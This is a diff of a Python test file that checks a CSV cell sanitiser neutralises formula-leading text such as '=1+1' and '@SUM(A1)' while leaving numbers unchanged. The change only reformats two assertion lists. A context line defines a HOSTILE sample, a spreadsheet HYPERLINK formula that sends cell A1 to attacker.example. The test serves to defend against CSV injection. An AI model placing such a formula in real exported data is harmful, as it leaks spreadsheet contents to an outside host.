@@ -18,9 +18,21 @@ HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
 
 def test_text_that_starts_a_formula_is_neutralised_and_numbers_stay_numbers() -> None:
     assert [csv_cell(v) for v in ("=1+1", "+33 1", "-x", "@SUM(A1)", "\tcmd", "\rcmd")] == [
-        "'=1+1", "'+33 1", "'-x", "'@SUM(A1)", "'\tcmd", "'\rcmd"]
+        "'=1+1",
+        "'+33 1",
+        "'-x",
+        "'@SUM(A1)",
+        "'\tcmd",
+        "'\rcmd",
+    ]
     assert [csv_cell(v) for v in (-1.5, 0, 12, None, "b8-fp32", "a=b")] == [
-        -1.5, 0, 12, "", "b8-fp32", "a=b"]
+        -1.5,
+        0,
+        12,
+        "",
+        "b8-fp32",
+        "a=b",
+    ]
 
 
 def test_attempts_and_manifest_csv_hold_hostile_text_as_text(tmp_path: Path) -> None:
